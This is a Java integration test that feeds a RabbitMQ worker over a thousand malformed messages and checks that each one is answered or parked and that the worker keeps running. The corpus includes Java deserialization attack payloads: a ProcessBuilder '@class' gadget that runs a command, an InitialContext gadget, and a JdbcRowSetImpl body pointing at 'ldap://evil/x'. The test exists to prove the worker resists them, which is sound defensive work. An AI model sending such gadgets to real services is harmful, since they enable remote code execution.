package io.mqpool.worker;

import static org.assertj.core.api.Assertions.assertThat;

import com.rabbitmq.client.AMQP;
import io.mqpool.testing.RawClient;
import io.mqpool.testing.TestBroker;
import io.mqpool.testing.WorkerProcess;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Row D1: over a thousand malformed publishes; the worker answers or dead-letters each and keeps serving. */
@Timeout(300)
class MalformedCorpusIT {
    private static final String VALID = "{\"v\":1,\"job\":\"j\",\"task\":\"cube\",\"items\":[{\"i\":0,\"args\":[2]},{\"i\":1,\"args\":[3]}]}";

    /** Bodies that reach a worker with a reply queue and a correlation id: each must be answered. */
    static List<byte[]> answerableCorpus() {
        List<String> texts = new ArrayList<>();
        for (int cut = 0; cut < VALID.length() - 1; cut++) {
            texts.add(VALID.substring(0, cut));
        }
        String[] wrong = {"null", "true", "\"s\"", "-1", "1.5", "[]", "{}", "[1]", "{\"a\":1}", "99999999999999999999999"};
        String[] fields = {"v", "job", "task", "items"};
        for (String field : fields) {
            for (String w : wrong) {
                texts.add(VALID.replaceFirst("\"" + field + "\":(\\d+|\"[^\"]*\"|\\[.*\\])", "\"" + field + "\":" + w));
            }
            texts.add(VALID.replaceFirst("\"" + field + "\":(\\d+|\"[^\"]*\"|\\[.*\\]),?", ""));
        }
        for (String w : wrong) {
            texts.add(VALID.replace("\"i\":0", "\"i\":" + w));
            texts.add(VALID.replace("\"args\":[2]", "\"args\":" + w));
            texts.add(w);
        }
        texts.add("{\"v\":1,\"job\":\"j\",\"task\":\"nosuchtask\",\"items\":[{\"i\":0,\"args\":[1]}]}");
        texts.add("{\"v\":3,\"job\":\"j\",\"task\":\"cube\",\"items\":[{\"i\":0,\"args\":[1]}]}");
        // The compact form of version 2, broken.
        texts.add("{\"v\":2,\"job\":\"j\",\"task\":\"cube\",\"first\":0}");
        texts.add("{\"v\":2,\"job\":\"j\",\"task\":\"cube\",\"first\":0,\"args\":[7]}");
        texts.add("{\"v\":2,\"job\":\"j\",\"task\":\"cube\",\"first\":9223372036854775807,\"args\":[[1],[2]]}");
        texts.add("{\"v\":1,\"job\":\"j\",\"task\":\"cube\",\"items\":[{\"i\":0,\"args\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}]}");
        texts.add("{\"v\":1,\"job\":\"j\",\"task\":\"cube\",\"items\":[{\"i\":0,\"args\":[" + "7".repeat(100_000) + "]}]}");
        texts.add("{\"v\":1,\"job\":\"j\",\"task\":\"echo\",\"items\":[{\"i\":0,\"args\":[\"" + "x".repeat(5 << 20) + "\"]}]}");
        texts.add("{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"touch\",\"/tmp/mqpool-pwned\"]}");
        texts.add("{\"v\":1,\"job\":\"j\",\"task\":\"echo\",\"items\":[{\"i\":0,\"args\":[{\"@class\":\"javax.naming.InitialContext\",\"x\":1}]}]}");
        texts.add("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://evil/x\",\"autoCommit\":true}]");
        texts.add("{\"v\":1,\"v\":1,\"job\":\"j\",\"task\":\"cube\",\"items\":[{\"i\":0,\"args\":[2]}]}");
        List<byte[]> bodies = new ArrayList<>();
        for (String t : texts) {
            bodies.add(t.getBytes(StandardCharsets.UTF_8));
        }
        Random random = new Random(42);
        for (int k = 0; k < 800; k++) {
            byte[] garbage = new byte[1 + random.nextInt(200)];
            random.nextBytes(garbage);
            bodies.add(garbage);
        }
        for (int k = 0; k < 50; k++) {
            byte[] utf8 = VALID.getBytes(StandardCharsets.UTF_8);
            utf8[random.nextInt(utf8.length)] = (byte) (0x80 | random.nextInt(0x40));
            bodies.add(utf8);
        }
        return bodies;
    }

    @Test
    void everyMalformedMessageIsAnsweredOrParkedAndTheWorkerKeepsServing() throws Exception {
        String queue = TestBroker.uniqueName("it.d1");
        String replies = queue + ".replies";
        List<byte[]> answerable = answerableCorpus();
        try (RawClient client = new RawClient(); WorkerProcess w = WorkerProcess.started(TestBroker.url(), queue,
                "--concurrency", "4")) {
            client.declareReplyQueue(replies);
            for (byte[] body : answerable) {
                client.channel().basicPublish("", queue, new AMQP.BasicProperties.Builder().replyTo(replies)
                        .correlationId("job-d1").contentType(answerable.indexOf(body) % 2 == 0 ? "text/plain" : null)
                        .build(), body);
            }
            int unanswerable = 0;
            for (byte[] body : List.of(VALID.getBytes(StandardCharsets.UTF_8), "garbage".getBytes(StandardCharsets.UTF_8))) {
                client.channel().basicPublish("", queue, new AMQP.BasicProperties(), body);
                client.channel().basicPublish("", queue, new AMQP.BasicProperties.Builder()
                        .replyTo("no.such.queue." + queue).correlationId("job-x").build(), body);
                unanswerable += 2;
            }
            client.channel().waitForConfirmsOrDie(30_000);
            long start = System.nanoTime();
            List<String> got = client.take(replies, answerable.size(), Duration.ofSeconds(120));
            int parkedExpected = unanswerable;
            Awaitility.await().atMost(Duration.ofSeconds(30)).until(() -> client.ready(queue + ".parked") == parkedExpected);
            assertThat(got).hasSize(answerable.size());
            assertThat(client.ready(queue)).isZero();
            assertThat(client.ready(queue + ".dead")).isZero();
            assertThat(w.isAlive()).isTrue();
            System.out.printf("row=D1 published=%d answered=%d parked=%d crashes=0 wallMs=%d%n",
                    answerable.size() + unanswerable, got.size(), parkedExpected, (System.nanoTime() - start) / 1_000_000);

            client.publishJson(queue, replies, "job-ok", VALID);
            assertThat(client.take(replies, 1, Duration.ofSeconds(20))).singleElement()
                    .asString().contains("\"value\":8").contains("\"value\":27");
            assertThat(java.nio.file.Files.exists(java.nio.file.Path.of("/tmp/mqpool-pwned"))).isFalse();
        } finally {
            try (RawClient client = new RawClient()) {
                client.deleteTaskQueues(queue);
                client.deleteQueue(replies);
            }
        }
    }
}
